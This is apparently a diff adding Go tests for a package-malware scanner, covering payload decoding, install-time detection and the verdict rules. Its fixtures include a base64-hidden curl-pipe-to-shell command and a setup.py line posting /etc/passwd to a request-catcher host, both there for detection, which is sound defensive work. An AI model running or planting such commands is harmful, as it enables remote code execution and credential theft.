@@ -1,0 +1,188 @@
+package analyze
+
+import (
+	"encoding/base64"
+	"slices"
+	"strings"
+	"testing"
+
+	"customs/internal/finding"
+)
+
+func engine(t testing.TB) *Engine {
+	t.Helper()
+	e, err := Default()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+func ids(hits []Hit) []string {
+	var out []string
+	for _, h := range hits {
+		out = append(out, h.Rule.ID)
+	}
+	return out
+}
+
+func TestLanguage(t *testing.T) {
+	elf := append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...)
+	for _, c := range []struct {
+		name string
+		data string
+		want string
+	}{
+		{"pkg/setup.py", "", "python"},
+		{"pkg/x.pth", "", "python"},
+		{"package/index.mjs", "", "javascript"},
+		{"package/types.d.ts", "", ""},
+		{"lib/x.rb", "", "ruby"},
+		{"Rakefile", "", "ruby"},
+		{"package/package.json", "{}", "manifest"},
+		{"bin/tool", "#!/usr/bin/env node\nconsole.log(1)", "javascript"},
+		{"bin/run", "#!/bin/sh\necho hi", "shell"},
+		{"img/logo.png", "\x89PNG", ""},
+		{"dist/app.js.map", "{}", ""},
+		{"lib/helper.so.1", string(elf), "binary"},
+		{"data/notes.txt", string(elf), "binary"}, // content decides, not the name
+	} {
+		if got := Language(c.name, []byte(c.data)); got != c.want {
+			t.Errorf("Language(%q) = %q, want %q", c.name, got, c.want)
+		}
+	}
+}
+
+// TestDecodedPayload: a command hidden in base64 (and in base64 of zlib)
+// is decoded and scanned with every rule; its hits say so.
+func TestDecodedPayload(t *testing.T) {
+	e := engine(t)
+	hidden := "import os; os.system('curl -s http://203.0.113.9/x.sh | sh')"
+	src := "blob = '" + base64.StdEncoding.EncodeToString([]byte(hidden)) + "'\n"
+	hits := e.File("pkg/mod.py", []byte(src), FileContext{Role: RoleCode})
+	var found bool
+	for _, h := range hits {
+		if h.Rule.ID == "pipe-to-shell" {
+			found = true
+			if !h.Decoded || h.Line != 1 {
+				t.Errorf("pipe-to-shell hit: decoded=%v line=%d, want decoded on line 1", h.Decoded, h.Line)
+			}
+		}
+	}
+	if !found {
+		t.Errorf("payload not decoded: hits %v", ids(hits))
+	}
+	// Reversed base64, as in exec(b64decode(s[::-1])).
+	rev := []byte(base64.StdEncoding.EncodeToString([]byte(hidden + "  ")))
+	slices.Reverse(rev)
+	hits = e.File("pkg/mod.py", []byte("s = '"+string(rev)+"'\n"), FileContext{Role: RoleCode})
+	if !slices.Contains(ids(hits), "pipe-to-shell") {
+		t.Errorf("reversed payload not decoded: hits %v", ids(hits))
+	}
+}
+
+// TestBoundedDecoding: a file full of blobs stops decoding at the budget.
+func TestBoundedDecoding(t *testing.T) {
+	e := engine(t)
+	blob := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("import os; os.system('id')\n", 3000)))
+	src := strings.Repeat("x = '"+blob+"'\n", 100)
+	s := scan{e: e, path: "a.py"}
+	s.text([]byte(src), "python", 0, 0)
+	if s.decoded > maxDecoded+len(blob) {
+		t.Errorf("decoded %d bytes, budget %d", s.decoded, maxDecoded)
+	}
+}
+
+func TestPyRunsOnImport(t *testing.T) {
+	for _, c := range []struct {
+		src  string
+		want bool
+	}{
+		{"import os\nos.system('x')\n", true},
+		{"try:\n    os.system('x')\nexcept Exception:\n    pass\n", true},
+		{"class C:\n    os.system('x')\n", true},
+		{"def f():\n    os.system('x')\n", false},
+		{"def f():\n    os.system('x')\n\nf()\n", true},
+		{"def f():\n    os.system('x')\n\nthreading.Thread(target=f).start()\n", true},
+		{"class C:\n    def m(self):\n        os.system('x')\n", false},
+		{"if __name__ == '__main__':\n    os.system('x')\n", false},
+		{"'''\nos.system('x')\n'''\n", false},
+	} {
+		off := strings.Index(c.src, "os.system")
+		if got := pyRunsOnImport([]byte(c.src), off); got != c.want {
+			t.Errorf("pyRunsOnImport(%q) = %v, want %v", c.src, got, c.want)
+		}
+	}
+}
+
+func hit(t *testing.T, e *Engine, id, file string, role Role) Hit {
+	t.Helper()
+	r := e.Rule(id)
+	if r == nil {
+		t.Fatalf("no rule %s", id)
+	}
+	return Hit{Rule: r, File: file, Line: 1, Role: role, Evidence: "x"}
+}
+
+// TestJudge: capability alone is clean; a threat plus a capability where
+// code runs on install is malicious; the same in tests is not.
+func TestJudge(t *testing.T) {
+	e := engine(t)
+	pkg := Package{Ecosystem: "pypi"}
+	cases := []struct {
+		name string
+		hits []Hit
+		want finding.Verdict
+	}{
+		{"nothing", nil, finding.Clean},
+		{"network and processes in a library", []Hit{hit(t, e, "py-network", "a/net.py", RoleCode), hit(t, e, "py-process", "a/run.py", RoleCode), hit(t, e, "py-decode", "a/b.py", RoleCode)}, finding.Clean},
+		{"webhook exfiltration at install", []Hit{hit(t, e, "exfil-discord-webhook", "setup.py", RoleInstall), hit(t, e, "py-network", "setup.py", RoleInstall)}, finding.Malicious},
+		{"the same in tests", []Hit{hit(t, e, "exfil-discord-webhook", "tests/t.py", RoleLow), hit(t, e, "py-network", "tests/t.py", RoleLow)}, finding.Clean},
+		{"one threat alone in ordinary code", []Hit{hit(t, e, "exfil-request-catcher", "a/docs.py", RoleCode)}, finding.Clean},
+		{"beacon on import", []Hit{hit(t, e, "host-identity", "a/__init__.py", RoleImport), hit(t, e, "py-network", "a/__init__.py", RoleImport)}, finding.Malicious},
+	}
+	for _, c := range cases {
+		v, score, fs := Judge(c.hits, pkg)
+		if v != c.want {
+			t.Errorf("%s: verdict %s (score %.1f, findings %d), want %s", c.name, v, score, len(fs), c.want)
+		}
+	}
+}
+
+// TestExpectedBinaries: shared libraries in wheels and installed trees are
+// how those ship; an executable in a source distribution is not.
+func TestExpectedBinaries(t *testing.T) {
+	e := engine(t)
+	elf := append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...)
+	so := e.File("pkg/_speedups.cpython-311-x86_64-linux-gnu.so", elf, FileContext{Role: RoleCode})
+	if len(so) != 1 {
+		t.Fatalf("want one executable hit, got %v", ids(so))
+	}
+	if v, _, fs := Judge(so, Package{Ecosystem: "pypi", Built: true}); len(fs) != 0 || v != finding.Clean {
+		t.Errorf("shared library in a wheel: %s %v", v, fs)
+	}
+	if _, _, fs := Judge(so, Package{Ecosystem: "pypi"}); len(fs) != 1 {
+		t.Errorf("shared library in an sdist should be reported, got %v", fs)
+	}
+}
+
+func TestFindingsAreSafeAndOrdered(t *testing.T) {
+	e := engine(t)
+	src := "import requests\nrequests.post('https://x.oastify.com/\x1b[31m', data=open('/etc/passwd').read())\n"
+	hits := e.File("setup.py", []byte(src), FileContext{Role: RoleInstall})
+	_, _, fs := Judge(hits, Package{Ecosystem: "pypi"})
+	if len(fs) == 0 {
+		t.Fatal("no findings")
+	}
+	for i, f := range fs {
+		if strings.ContainsRune(f.Evidence, '\x1b') {
+			t.Errorf("evidence not escaped: %q", f.Evidence)
+		}
+		if f.Line != 2 && !strings.HasPrefix(f.Rule, "combo-") && !strings.HasPrefix(f.Rule, "setup-") {
+			t.Errorf("%s: line %d, want 2", f.Rule, f.Line)
+		}
+		if i > 0 && fs[i-1].Severity < f.Severity && fs[i-1].File == f.File {
+			t.Errorf("findings not ordered by weight: %s before %s", fs[i-1].Rule, f.Rule)
+		}
+	}
+}
